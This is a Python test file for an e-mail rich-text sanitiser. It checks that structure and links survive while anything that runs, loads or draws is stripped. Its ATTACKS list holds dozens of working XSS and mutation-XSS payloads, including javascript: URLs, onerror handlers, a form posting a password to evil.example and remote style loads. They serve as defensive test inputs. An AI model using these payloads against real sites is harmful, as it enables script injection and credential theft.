"""What is kept of rich text: structure and links that e-mail can carry, and nothing that runs, loads or draws."""

import html as html_lib
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from advocacy.richtext import TAGS, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<p>a</p><scr<script>ipt>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/pixel.gif'>",
    "<p onclick='alert(1)' onmouseover=alert(1)>hello</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='http://plain.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='relative/page'>x</a>",
    "<a href='#top' target=_blank ping='https://evil.example'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p class='dock' id='main'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>Send</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>\0<sc\0ript>alert(1)</script>",
    "<table background='https://evil.example/x'><tr><td bgcolor=red>x</td></tr></table>",
    "<span lang='\" onmouseover=alert(1) x=\"'>x</span>",
    "<p>{{ 7|add:7 }} {% include 'base.html' %}</p><a href='{{ evil }}'>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_draws_survives(attack):
    clean = sanitise(f"<p>before</p>{attack}", link_fields={"plan_link"})

    assert "before" in clean
    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s+[^<>]*)?)>", clean):
        assert tag in TAGS
        for name, value in re.findall(r'([^\s=]+)="([^"]*)"', attributes):
            assert name in {"href", "rel", "lang", "start", "scope", "colspan", "rowspan"}
            if name == "href":
                assert html_lib.unescape(value).startswith(("https://", "mailto:"))
    assert not re.search(r"<[^>]*(on\w+\s*=|style|class|javascript|data:)", clean, re.I)
    for gone in ("<script", "<style", "<svg", "<math", "<form", "<base", "<meta", "<link", "<img", "<iframe"):
        assert gone not in clean.lower()


def test_the_text_of_a_script_goes_with_it():
    assert sanitise("<p>a</p><script>alert(1)</script><style>p{}</style>") == "<p>a</p>"


def test_what_an_officer_writes_is_kept():
    written = (
        "<h2>What we ask</h2><p>A <strong>right</strong>, <em>not</em> a favour<sup>1</sup>.<br>Two lines.</p>"
        '<ol start="3"><li>one</li><li>two</li></ol><ul><li>three</li></ul><blockquote><p>said</p></blockquote><hr>'
        '<table><thead><tr><th scope="col">Country</th></tr></thead><tbody><tr><td colspan="2">IE</td></tr></tbody>'
        '</table><p><span lang="fr">Madame</span></p>'
    )

    assert sanitise(written) == written


def test_links_keep_https_and_mailto_and_get_a_safe_rel():
    assert sanitise('<a href="https://platform.example/a?b=1&amp;c=2">x</a>') == (
        '<a href="https://platform.example/a?b=1&amp;c=2" rel="noopener noreferrer">x</a>'
    )
    assert 'href="mailto:desk@platform.example"' in sanitise('<a href="mailto:desk@platform.example">x</a>')


def test_the_marks_of_the_editor_are_taken_off():
    assert sanitise('<ol><li data-list-item-id="e1"><span class="x">a</span></li></ol>') == (
        "<ol><li><span>a</span></li></ol>"
    )


def test_a_merge_field_in_text_is_text():
    text = '<p>Dear {{ family_name }}, {{ group | default: "colleague" }}</p>'

    assert sanitise(text) == text


def test_a_link_field_may_be_a_whole_address_and_nothing_else_may():
    clean = sanitise('<a href="{{plan_link}}">plan</a>', link_fields={"plan_link"})

    assert 'href="{{ plan_link }}"' in clean
    for address in ("{{ family_name }}", "https://x.example/{{ plan_link }}", "{{ plan_link }}/x", "{% if a %}"):
        assert "href" not in sanitise(f'<a href="{address}">plan</a>', link_fields={"plan_link"})


def test_without_link_fields_no_token_stands_in_an_address():
    assert "href" not in sanitise('<a href="{{ plan_link }}">plan</a>')


PIECES = st.lists(
    st.one_of(
        st.text(max_size=12),
        st.sampled_from(ATTACKS),
        st.sampled_from(
            [
                *(f"<{tag}>" for tag in sorted(TAGS)),
                *(f"</{tag}>" for tag in sorted(TAGS)),
                *("<a href='https://x.example'>", "<a href='{{ plan_link }}'>", "<table><a href='https://y.example'>"),
                *(
                    "<!--",
                    "-->",
                    "&lt;",
                    "&amp;amp;",
                    "<svg>",
                    "</svg>",
                    "<math>",
                    "<select>",
                    "<",
                    ">",
                    '"',
                    "{{ x }}",
                ),
            ]
        ),
    ),
    max_size=14,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(PIECES)
@example("<a href='https://x.example'><table><a href='https://y.example'>")
@example("<p><table><p><tr><td><p>")
def test_cleaning_twice_changes_nothing(html):
    once = sanitise(html, link_fields={"plan_link"})

    assert sanitise(once, link_fields={"plan_link"}) == once
